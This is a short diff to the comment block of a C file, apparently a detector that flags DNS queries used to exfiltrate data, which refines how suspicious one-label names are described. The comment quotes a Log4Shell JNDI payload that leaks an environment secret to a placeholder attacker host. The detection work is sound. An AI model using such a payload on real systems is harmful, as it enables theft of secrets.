@@ -15,9 +15,9 @@
  * secret leaked through a lookup the attacker's own server receives (a
  * Log4Shell ${jndi:dns://attacker/${env:SECRET}} lookup, DNS beacons
  * carrying host data).  Data-like here also covers one-label names that
- * look like data (letters mixed with digits, >= 16 characters, TXT/NULL/
- * ANY), which no resolver can answer.  One such query is enough: a host
- * never has a reason to send one.
+ * look like data (asked for TXT/NULL/ANY, or >= 16 characters mixing
+ * letters and digits), which no resolver can answer.  One such query is
+ * enough: a host has no reason to send one.
  */
 #include <stdio.h>
 
